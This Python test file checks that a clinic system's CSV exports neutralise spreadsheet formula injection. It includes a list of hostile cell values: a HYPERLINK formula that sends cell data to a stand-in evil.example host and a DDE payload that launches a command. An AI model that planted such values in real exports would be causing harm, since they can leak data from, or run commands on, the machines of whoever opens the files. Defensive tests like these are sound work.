"""No CSV KetaCare writes hands a spreadsheet a formula (issue 13, defect 6): the cell rule, the
one writer every export goes through, and the audit export with a hostile value in every text
column. The ledger's exports are tested in controlled_substances/tests/test_export_formulas.py."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from clinic.core.audit import audit_record
from clinic.core.request_context import RequestContext, request_context
from clinic.core.spreadsheet import csv_text, spreadsheet_safe

# Values a tester typed into free-text fields: formulas at the start, after spaces, quotes or
# a line break, in full-width forms, and arithmetic that looks like a number but is not one.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    '"=1+2',
    "'=1+2",
    "\u00a0@SUM(A1)",
    "\uff1d1+2",
    'Seen\n=HYPERLINK("http://evil.example")',
    "Seen\r\n  -2+3",
]


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells (or lines within a cell) that a spreadsheet could read as a formula: a line that
    does not start with the apostrophe and starts one, at once or after spaces or quotes."""
    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    found = []
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue  # a plain number
            for line in re.split(r"\r\n|\n", cell):
                if line.startswith("'"):
                    continue
                if line.startswith(starts) or line.lstrip(' \t\u00a0"').startswith(starts):
                    found.append(cell)
    return found


@pytest.mark.parametrize("value", HOSTILE)
def test_every_hostile_value_is_neutralised_and_kept(value):
    safe = spreadsheet_safe(value)
    assert formula_cells([[safe]]) == []
    # The text itself is kept: only apostrophes are added.
    assert safe.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize("value", ["-1", "-12.5", "0", "42", "3.000", "", None, "Acme", "O'Neil"])
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert spreadsheet_safe(value) == ("" if value is None else value)


def test_the_writer_neutralises_headings_and_every_cell_and_keeps_line_breaks():
    text = csv_text(["=Heading", "ok"], [[value, value] for value in HOSTILE])
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    assert rows[0] == ["'=Heading", "ok"]
    assert formula_cells(rows) == []
    assert rows[-2][0] == 'Seen\n\'=HYPERLINK("http://evil.example")'


def test_no_module_but_the_writer_imports_csv():
    """So that a future export cannot forget the neutralising: only clinic/core/spreadsheet.py
    writes CSV."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and any(
            line.strip() in {"import csv"} or line.strip().startswith("from csv import")
            for line in path.read_text().splitlines()
        )
    ]
    assert offenders == []


@pytest.mark.django_db
def test_the_audit_export_neutralises_every_text_column(client, clinic_admin, make_staff):
    hostile_user = make_staff("nurse", username="=cmd")
    for value in HOSTILE:
        with request_context(
            RequestContext(user_agent=value, request_id=value[:32], channel=value[:16])
        ):
            audit_record(
                actor=hostile_user,
                action="view",
                object_type=value[:64],
                object_id=value[:64],
                summary=value,
                changes={"note": value},
            )
    client.force_login(clinic_admin)
    response = client.post(reverse("core:audit_export"), HTTP_USER_AGENT="=HYPERLINK(1)")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) > len(HOSTILE)
    assert formula_cells(rows) == []
    assert any(row[1] == "'=cmd" for row in rows)
